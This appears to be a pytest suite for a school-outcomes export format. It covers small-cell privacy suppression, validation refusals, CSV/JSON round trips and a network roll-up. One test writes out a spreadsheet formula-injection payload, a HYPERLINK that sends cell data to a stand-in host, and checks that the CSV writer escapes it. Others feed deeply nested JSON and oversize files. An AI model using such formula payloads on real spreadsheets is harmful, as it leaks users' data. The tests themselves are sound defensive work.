"""The Outcome Export format, its validator and the network roll-up (cis_app.core.network_rollup)."""

import copy
import json

import pandas as pd
import pytest

from cis_app.core import network_rollup as nr
from cis_app.core.outcomes import METRICS, outcome_metrics, percent, suppress_outcomes

STAMP = "2025-08-15T14:03:00+00:00"
COUNTS = {"cohort", "status_missing", "unknown_outcome"}


def cohort_frame():
	"""Three sites, 62 students, ids that must never reach a file."""
	rows = []
	rows += [(f"stu-A{i}", "Site A", "7", "Promoted" if i < 25 else "Retained") for i in range(30)]
	rows += [(f"stu-B{i}", "Site B", "12", "Graduated" if i < 15 else "Retained") for i in range(20)]
	rows += [(f"stu-C{i}", "Site C", "8", "Promoted" if i < 11 else "Moved") for i in range(12)]
	return pd.DataFrame(rows, columns=["student", "site", "grade_level", "year_end_status"])


def affiliate_export(threshold=3):
	metrics = suppress_outcomes(outcome_metrics(cohort_frame(), None, group_by="site"), threshold)
	return nr.build_export(
		"aff-1", "Affiliate One", "2024-2025", STAMP, threshold, metrics, {"promoted": 85.0}
	)


def row(level, site, metric, numerator=None, denominator=None, suppressed=0):
	return {
		"level": level,
		"site": site,
		"metric": metric,
		"numerator": numerator,
		"denominator": denominator,
		"percent": None if suppressed or metric in COUNTS else percent(numerator, denominator),
		"target": None,
		"suppressed": suppressed,
	}


def hand_export(cells, threshold=10, affiliate="aff-x"):
	"""An export from {(level, site): {metric: (numerator, denominator) or None (suppressed)}}."""
	rows = []
	for (level, site), metrics in cells.items():
		for metric in METRICS:
			value = metrics.get(metric, None)
			if value is None:
				rows.append(row(level, site, metric, suppressed=1))
			else:
				rows.append(row(level, site, metric, *value))
	return {
		"format": "cis-outcome-export",
		"version": 1,
		"affiliate": {"id": affiliate, "name": affiliate.title()},
		"school_year": "2024-2025",
		"generated_at": STAMP,
		"small_cell_threshold": threshold,
		"rows": rows,
	}


# An affiliate with one site; every cell shown at threshold 10 (a consistent, valid export).
BIG = {
	"cohort": (100, None),
	"status_missing": (10, None),
	"unknown_outcome": (10, None),
	"remained_in_school": (70, 80),
	"promoted": (50, 60),
	"graduated": (10, 20),
	"attendance_goals": (30, 40),
	"academic_goals": (30, 40),
	"behavior_goals": (20, 30),
}


def codes(error):
	return [problem.code for problem in error.value.problems]


def refused(data, minimum=None):
	with pytest.raises(nr.ExportError) as error:
		nr.validate_export(data, minimum)
	return error


# ---------------------------------------------------------------- writing


def test_export_carries_the_suppressed_figures_per_site_and_for_the_affiliate():
	export = affiliate_export()
	assert [export[key] for key in ("format", "version", "school_year", "small_cell_threshold")] == [
		"cis-outcome-export",
		1,
		"2024-2025",
		3,
	]
	assert export["affiliate"] == {"id": "aff-1", "name": "Affiliate One"}
	rows = {(r["level"], r["site"], r["metric"]): r for r in export["rows"]}
	assert len(rows) == len(export["rows"]) == 4 * 9
	assert set(export["rows"][0]) == set(nr.ROW_FIELDS)
	# affiliate: cohort 62; remained hidden with the cohort's small parts (missing 0, unknown 1)
	assert rows[("affiliate", None, "cohort")]["numerator"] == 62
	assert rows[("affiliate", None, "unknown_outcome")]["suppressed"] == 1
	assert rows[("affiliate", None, "remained_in_school")] == {
		**row("affiliate", None, "remained_in_school", suppressed=1),
	}
	promoted = rows[("affiliate", None, "promoted")]
	assert (promoted["numerator"], promoted["denominator"], promoted["percent"], promoted["target"]) == (
		36,
		41,
		87.8,
		85.0,
	)
	assert rows[("affiliate", None, "graduated")]["percent"] == 75.0  # 15 of 20
	# only site B has seniors: A and C (0 of 0) are hidden, and they add up to 0, so B is hidden too
	assert rows[("site", "Site B", "graduated")]["suppressed"] == 1
	assert rows[("site", "Site B", "cohort")]["numerator"] == 20
	# Site C's promoted 11 of 11: complement 0, suppressed; so is the next smallest site (A)
	assert rows[("site", "Site C", "promoted")]["suppressed"] == 1
	assert rows[("site", "Site A", "promoted")]["suppressed"] == 1
	for cell in export["rows"]:
		if cell["suppressed"]:
			assert (cell["numerator"], cell["denominator"], cell["percent"]) == (None, None, None)


def test_export_matches_core_suppression_cell_for_cell():
	metrics = suppress_outcomes(outcome_metrics(cohort_frame(), None, group_by="site"), 3)
	expected = {
		("affiliate" if r["is_total"] else "site", None if r["is_total"] else r["group"], r["metric"]): (
			r["numerator"],
			r["suppressed"],
		)
		for r in metrics.to_dict("records")
	}
	found = {
		(r["level"], r["site"], r["metric"]): (r["numerator"], r["suppressed"])
		for r in affiliate_export()["rows"]
	}
	assert found == expected


def test_no_student_level_data_in_either_file():
	export = affiliate_export()
	for text in (nr.to_json(export), nr.to_csv(export)):
		assert "stu-" not in text


def test_json_and_csv_round_trip():
	export = affiliate_export()
	assert nr.validate_export(nr.parse_export(nr.to_json(export))) == export
	text = nr.to_csv(export)
	lines = text.splitlines()
	assert lines[0] == ",".join(nr.CSV_FIELDS)
	assert (
		lines[1]
		== "cis-outcome-export,1,aff-1,Affiliate One,2024-2025," + STAMP + ",3,affiliate,,cohort,62,,,,0"
	)
	assert len(lines) == 1 + 36
	assert nr.validate_export(nr.parse_export(text.encode("utf-8"))) == export
	assert nr.parse_export(("\ufeff" + text).encode("utf-8")) == export  # Excel's byte order mark


def test_export_protects_a_cohort_its_parts_would_give_back():
	# core.suppression can hide a cohort across sites while its three parts stay shown: their sum would
	# give it back, so the export hides the smallest part too
	records = []
	for metric in METRICS:
		numerator, denominator = BIG[metric]
		hidden = metric == "cohort"
		records.append(
			{
				"metric": metric,
				"group": None,
				"is_total": True,
				"numerator": None if hidden else numerator,
				"denominator": None if hidden else denominator,
				"percent": None if hidden or metric in COUNTS else percent(numerator, denominator),
				"suppressed": int(hidden),
			}
		)
	error = refused(hand_export({("affiliate", None): {**BIG, "cohort": None}}))
	assert codes(error) == ["recoverable"]
	export = nr.build_export("aff-1", "Affiliate One", "2024-2025", STAMP, 10, pd.DataFrame(records))
	cell = {r["metric"]: r for r in export["rows"]}
	assert cell["status_missing"]["suppressed"] == 1  # the smallest part (10; first on a tie)
	assert cell["unknown_outcome"]["numerator"] == 10
	assert cell["remained_in_school"]["numerator"] == 70
	assert nr.leaks(export["rows"], 10) == []


# ---------------------------------------------------------------- refusals


def test_a_valid_hand_built_export_passes():
	data = hand_export({("affiliate", None): BIG})
	assert nr.validate_export(data, minimum_threshold=10) is data


@pytest.mark.parametrize(
	"content",
	[b"", b"\xff\xfe\x00garbage", b"[1, 2]", b'{"format": ', b"hello,world\n1,2", b'{"version": NaN}'],
)
def test_unreadable_files_are_refused(content):
	with pytest.raises(nr.ExportError) as error:
		nr.validate_export(nr.parse_export(content))
	assert codes(error)[0] in {"unreadable", "wrong_format"}


def test_another_format_or_version_is_refused():
	data = hand_export({("affiliate", None): BIG})
	assert codes(refused({**data, "format": "something-else"})) == ["wrong_format"]
	for version in (2, 0, "1", True, None):
		error = refused({**data, "version": version})
		assert codes(error) == ["wrong_version"]
	assert "version 2 is not supported" in refused({**data, "version": 2}).value.problems[0].message


def test_missing_unknown_and_ill_typed_fields_are_refused():
	data = hand_export({("affiliate", None): BIG})
	without = {key: value for key, value in data.items() if key != "school_year"}
	assert codes(refused(without)) == ["missing_field"]
	# a student-level field has no place in the format
	extra = copy.deepcopy(data)
	extra["rows"][0]["student"] = "stu-1"
	assert codes(refused(extra)) == ["unknown_field"]
	assert codes(refused({**data, "students": []})) == ["unknown_field"]
	for key, value in [
		("small_cell_threshold", 0),
		("small_cell_threshold", "10"),
		("generated_at", "yesterday"),
		("school_year", ""),
		("affiliate", "aff-x"),
	]:
		assert codes(refused({**data, key: value})) == ["bad_value"], key
	for key, value in [
		("level", "district"),
		("metric", "happiness"),
		("numerator", -1),
		("numerator", 12.5),
		("suppressed", 2),
		("suppressed", True),
		("target", 120),
		("denominator", 5),  # a count has no denominator
	]:
		bad = copy.deepcopy(data)
		bad["rows"][0][key] = value  # the cohort row
		assert codes(refused(bad)) == ["bad_value"], (key, value)
	bad = copy.deepcopy(data)
	bad["rows"][0]["site"] = "Site A"  # an affiliate row names no site
	assert codes(refused(bad)) == ["bad_value"]
	assert codes(refused({**data, "rows": []})) == ["no_rows"]
	assert codes(refused({**data, "rows": "none"})) == ["bad_value"]


def test_duplicate_and_missing_rows_are_refused():
	data = hand_export({("affiliate", None): BIG})
	duplicate = copy.deepcopy(data)
	duplicate["rows"].append(copy.deepcopy(duplicate["rows"][3]))
	assert codes(refused(duplicate)) == ["duplicate_row"]
	missing = copy.deepcopy(data)
	del missing["rows"][5]
	assert codes(refused(missing)) == ["missing_row"]
	# a site must carry every metric too
	partial = hand_export({("affiliate", None): BIG, ("site", "S"): BIG})
	partial["rows"] = [r for r in partial["rows"] if not (r["site"] == "S" and r["metric"] == "graduated")]
	assert codes(refused(partial)) == ["missing_row"]


def test_a_suppressed_cell_with_a_number_is_refused():
	data = hand_export({("affiliate", None): {**BIG, "graduated": None}})
	cell = next(r for r in data["rows"] if r["metric"] == "graduated")
	cell["numerator"] = 4
	assert codes(refused(data)) == ["suppressed_with_value"]
	cell["numerator"], cell["percent"] = None, 40.0
	assert codes(refused(data)) == ["suppressed_with_value"]


def test_inconsistent_cells_are_refused():
	data = hand_export({("affiliate", None): BIG})
	cell = next(r for r in data["rows"] if r["metric"] == "promoted")
	cell["percent"] = 80.0
	error = refused(data)
	assert codes(error) == ["wrong_percent"]
	assert "(83.3)" in error.value.problems[0].message
	cell.update(numerator=70, denominator=60, percent=None)
	assert codes(refused(data)) == ["numerator_above_denominator"]
	sites = hand_export({("affiliate", None): BIG, ("site", "S"): {**BIG, "cohort": (120, None)}})
	assert codes(refused(sites)) == ["sites_exceed_affiliate"]


@pytest.mark.parametrize(
	"metric, value, what",
	[
		("cohort", (9, None), "the count 9"),
		("status_missing", (0, None), "the count 0"),
		("promoted", (9, 30), "the numerator 9"),
		("graduated", (10, 19), "the complement 9 (denominator minus numerator)"),
		("attendance_goals", (30, 31), "the complement 1 (denominator minus numerator)"),
	],
)
def test_an_unsuppressed_small_cell_is_refused(metric, value, what):
	error = refused(hand_export({("affiliate", None): {**BIG, metric: value}}))
	assert "small_cell" in codes(error)
	message = next(p.message for p in error.value.problems if p.code == "small_cell")
	assert (
		message
		== f"Row (affiliate, {metric}): {what} is below the small-cell threshold 10 but is not suppressed.".replace(
			"Row (", f"Row {METRICS.index(metric) + 1} ("
		)
	)


def test_small_cells_are_judged_at_the_files_own_threshold():
	data = hand_export({("affiliate", None): {**BIG, "promoted": (12, 24)}}, threshold=10)
	nr.validate_export(data)
	error = refused({**data, "small_cell_threshold": 15})
	assert set(codes(error)) == {"small_cell"}
	assert (
		"Row 5 (affiliate, promoted): the numerator 12 is below the small-cell threshold 15"
		in [p.message.split(" but")[0] for p in error.value.problems][3]
	)


def test_a_threshold_below_the_importing_sites_is_refused():
	data = hand_export({("affiliate", None): BIG}, threshold=10)
	nr.validate_export(data, minimum_threshold=10)
	error = refused(data, minimum=20)
	assert codes(error)[0] == "threshold_too_low"
	assert "threshold of 10; this site needs at least 20" in error.value.problems[0].message


def test_a_cell_recomputable_by_subtraction_is_refused():
	site = {**BIG}
	# two sites; one site's graduated hidden while the affiliate's is shown: affiliate minus the other
	cells = {
		("affiliate", None): {
			**BIG,
			"cohort": (200, None),
			"status_missing": (20, None),
			"unknown_outcome": (20, None),
			"remained_in_school": (140, 160),
			"promoted": (100, 120),
			"graduated": (30, 40),
			"attendance_goals": (60, 80),
			"academic_goals": (60, 80),
			"behavior_goals": (40, 60),
		},
		("site", "S1"): site,
		("site", "S2"): {**site, "graduated": None},
	}
	error = refused(hand_export(cells))
	assert codes(error) == ["recoverable"]
	assert error.value.problems[0].message.startswith("Row (site S2, graduated)")
	# two hidden sites that add up to less than the threshold are no better
	cells[("site", "S2")] = {**site, "graduated": (10, 20)}
	cells[("site", "S3")] = {**{m: None for m in BIG}}
	cells[("site", "S4")] = {**{m: None for m in BIG}}
	# S3 + S4 = affiliate - S1 - S2: cohort 0 hidden there (< 10)
	affiliate_cells = {m: v for m, v in cells[("affiliate", None)].items()}
	error = refused(hand_export({**cells, ("affiliate", None): affiliate_cells}))
	assert "recoverable" in codes(error)
	assert any("add up to less than 10" in p.message for p in error.value.problems)


def test_a_cohort_part_recomputable_within_a_group_is_refused():
	# cohort 100 shown, unknown_outcome hidden alone: 100 - 10 - 80 gives it back
	error = refused(hand_export({("affiliate", None): {**BIG, "unknown_outcome": None}}))
	assert codes(error) == ["recoverable"]
	assert "the cohort minus the two other parts" in error.value.problems[0].message
	# cohort hidden while its three parts are shown
	error = refused(hand_export({("affiliate", None): {**BIG, "cohort": None}}))
	assert "the sum of its three parts" in error.value.problems[0].message


def test_csv_specific_refusals():
	text = nr.to_csv(hand_export({("affiliate", None): BIG}))
	lines = text.splitlines()
	with pytest.raises(nr.ExportError) as error:
		nr.parse_export("\n".join([lines[0]]))
	assert codes(error) == ["no_rows"]
	with pytest.raises(nr.ExportError) as error:
		nr.parse_export("\n".join([lines[0] + ",student_id", *[line + ",stu-1" for line in lines[1:]]]))
	assert codes(error) == ["unknown_field"]
	with pytest.raises(nr.ExportError) as error:
		nr.parse_export("\n".join([lines[0], lines[1], lines[2].replace("aff-x", "aff-y")]))
	assert codes(error) == ["csv_mixed_files"]
	with pytest.raises(nr.ExportError) as error:
		nr.parse_export("\n".join([lines[0], lines[1] + ",extra"]))
	assert codes(error) == ["unreadable"]
	other_version = "\n".join(
		[lines[0], *[line.replace("cis-outcome-export,1,", "cis-outcome-export,2,") for line in lines[1:]]]
	)
	assert codes(refused(nr.parse_export(other_version))) == ["wrong_version"]
	bad_number = "\n".join([lines[0], lines[1].replace(",100,", ",many,"), *lines[2:]])
	assert codes(refused(nr.parse_export(bad_number))) == ["bad_value"]


def test_every_problem_code_has_a_message():
	for template in nr.MESSAGES.values():
		assert template.strip()
	problem = nr.ExportProblem("wrong_version", {"found": 2, "expected": 1})
	assert problem.message == "Outcome Export version 2 is not supported: this site reads version 1."


# ---------------------------------------------------------------- the network roll-up


def rollup_figures(rows, year="2024-2025"):
	return {
		(r["group"], r["metric"]): None
		if r["suppressed"]
		else (r["numerator"], r["denominator"], r["percent"])
		for r in rows
		if r["school_year"] == year
	}


def test_network_totals_add_the_known_cells_only():
	one = hand_export({("affiliate", None): BIG}, affiliate="north")
	two = hand_export(
		{
			("affiliate", None): {
				**BIG,
				"graduated": None,
				"cohort": (50, None),
				"status_missing": (10, None),
				"unknown_outcome": (10, None),
				"remained_in_school": (20, 30),
			}
		},
		affiliate="south",
	)
	rows = nr.network_rollup(nr.affiliate_cells(one) + nr.affiliate_cells(two), 10)
	figures = rollup_figures(rows)
	assert figures[(None, "cohort")] == (150, None, None)
	assert figures[(None, "remained_in_school")] == (90, 110, 81.8)
	# south's graduated is unknown: the total is north's alone, and says so
	assert figures[(None, "graduated")] == (10, 20, 50.0)
	assert figures[("North", "graduated")] == (10, 20, 50.0)
	assert figures[("South", "graduated")] is None
	total = next(r for r in rows if r["is_total"] and r["metric"] == "graduated")
	assert (total["affiliates_counted"], total["affiliates_total"]) == (1, 2)
	total = next(r for r in rows if r["is_total"] and r["metric"] == "cohort")
	assert (total["affiliates_counted"], total["affiliates_total"]) == (2, 2)
	# order: per metric the total, then the affiliates by name
	assert [(r["metric"], r["group"]) for r in rows[:3]] == [
		("cohort", None),
		("cohort", "North"),
		("cohort", "South"),
	]
	assert len(rows) == 9 * 3


def test_network_level_suppresses_again_at_a_higher_threshold():
	one = hand_export({("affiliate", None): BIG}, affiliate="north")
	rows = nr.network_rollup(nr.affiliate_cells(one), 15)
	figures = rollup_figures(rows)
	# at 15: missing 10 and unknown 10 are small; cohort's parts then add up to 20 hidden (not small),
	# remained 70/80 has a complement of 10: small
	assert figures[("North", "status_missing")] is None
	assert figures[("North", "unknown_outcome")] is None
	assert figures[("North", "remained_in_school")] is None
	assert figures[("North", "graduated")] is None  # 10 of 20
	assert figures[("North", "promoted")] is None  # 50 of 60: complement 10
	assert figures[("North", "cohort")] == (100, None, None)
	assert figures[(None, "graduated")] is None  # no affiliate's cell is known
	assert figures[(None, "cohort")] == (100, None, None)
	assert [key for key, value in figures.items() if value is not None] == [
		(None, "cohort"),
		("North", "cohort"),
	]


def test_network_level_protects_the_cohorts_parts_again():
	# at 11 only unknown outcome (10) is small: alone among the parts it would be given back by the
	# cohort, so the smallest other part (status missing, 11) goes too
	cells = nr.affiliate_cells(
		hand_export(
			{("affiliate", None): {**BIG, "status_missing": (11, None), "remained_in_school": (65, 79)}},
			affiliate="x",
		)
	)
	figures = rollup_figures(nr.network_rollup(cells, 11))
	assert figures[("X", "unknown_outcome")] is None
	assert figures[("X", "status_missing")] is None
	assert figures[("X", "remained_in_school")] == (65, 79, 82.3)


def test_network_rollup_with_every_cell_unknown_and_several_years():
	hidden = hand_export({("affiliate", None): {m: None for m in METRICS}}, affiliate="tiny")
	big = hand_export({("affiliate", None): BIG}, affiliate="north")
	big["school_year"] = "2023-2024"
	rows = nr.network_rollup(nr.affiliate_cells(hidden) + nr.affiliate_cells(big), 10)
	assert [r["school_year"] for r in rows[:1]] == ["2023-2024"]
	figures = rollup_figures(rows)
	assert all(value is None for value in figures.values())
	totals = [r for r in rows if r["is_total"] and r["school_year"] == "2024-2025"]
	assert {(r["affiliates_counted"], r["affiliates_total"]) for r in totals} == {(0, 1)}
	assert rollup_figures(rows, "2023-2024")[(None, "cohort")] == (100, None, None)
	assert json.dumps(rows)  # plain values only


# ---------------------------------------------------------------- names, lines, size and depth


SITES = {"Site A", "Site B", "Site C"}


def names_problems(content, affiliate_name="Affiliate One", sites=SITES, school_year_known=True):
	export, lines = nr.read_export(content)
	return nr.check_names(nr.validate_export(export), lines, affiliate_name, sites, school_year_known)


def test_a_file_naming_only_the_affiliates_own_sites_and_known_codes_passes():
	export = affiliate_export()
	for content in (nr.to_json(export), nr.to_csv(export)):
		assert names_problems(content) == []


@pytest.mark.parametrize("writer", [nr.to_json, nr.to_csv])
def test_a_site_that_is_not_the_affiliates_is_refused_with_its_line(writer):
	export = affiliate_export()
	for cell in export["rows"]:
		if cell["site"] == "Site B":
			cell["site"] = "Jordan Smith 4471 dropped out"
	content = writer(export)
	problems = names_problems(content)
	assert [p.code for p in problems] == ["unknown_site"]  # once, at its first line
	first = next(i for i, cell in enumerate(export["rows"]) if cell["site"] == "Jordan Smith 4471 dropped out")
	text_lines = content.splitlines()
	line = int(problems[0].params["where"].split()[1])
	if writer is nr.to_csv:
		assert line == first + 2  # the header is line 1
		assert "Jordan Smith" in text_lines[line - 1]
	else:
		assert text_lines[line - 1].strip() == "{"  # the row's opening brace
		assert '"site": "Jordan Smith 4471 dropped out"' in "".join(text_lines[line : line + 9])
		assert "Jordan Smith" not in "".join(text_lines[: line - 1])
	assert problems[0].message.startswith(f"Line {line} (site Jordan Smith 4471 dropped out, cohort)")


def test_an_unknown_affiliate_a_wrong_name_and_an_unknown_year_are_refused_with_their_line():
	export = affiliate_export()
	json_text = nr.to_json(export)
	problems = names_problems(json_text, affiliate_name=None, school_year_known=False)
	assert [p.code for p in problems] == ["unknown_affiliate", "unknown_school_year"]
	lines = json_text.splitlines()
	assert '"affiliate"' in lines[int(problems[0].params["where"].split()[1]) - 1]
	assert '"school_year"' in lines[int(problems[1].params["where"].split()[1]) - 1]
	problems = names_problems(nr.to_csv(export), affiliate_name="=HYPERLINK(1)")
	assert [(p.code, p.params["where"]) for p in problems] == [("wrong_affiliate_name", "Line 2")]


def test_formula_like_text_is_escaped_in_the_csv_and_read_back_as_written():
	export = affiliate_export()
	export["affiliate"]["name"] = '=HYPERLINK("http://x.example/?"&A1)'
	for cell in export["rows"]:
		if cell["site"] == "Site C":
			cell["site"] = "-Site C"
	text = nr.to_csv(export)
	assert "'=HYPERLINK" in text and ",'-Site C," in text
	assert ",=HYPERLINK" not in text and ",-Site C," not in text
	assert nr.parse_export(text) == export


def test_deeply_nested_json_is_refused_not_a_recursion_error():
	for content in ("[" * 100_000 + "]" * 100_000, '{"rows": ' + "[" * 50_000 + "]" * 50_000 + "}"):
		with pytest.raises(nr.ExportError) as caught:
			nr.parse_export(content)
		assert [p.code for p in caught.value.problems] == ["too_deep"]
	export = affiliate_export()
	export["rows"][0]["site"] = [["x"]]  # deeper than a row may be
	with pytest.raises(nr.ExportError) as caught:
		nr.parse_export(json.dumps(export))
	assert [p.code for p in caught.value.problems] == ["too_deep"]


def test_an_oversize_file_is_refused_before_it_is_parsed():
	with pytest.raises(nr.ExportError) as caught:
		nr.parse_export(b" " * (nr.MAX_FILE_BYTES + 1))
	assert [p.code for p in caught.value.problems] == ["too_large"]
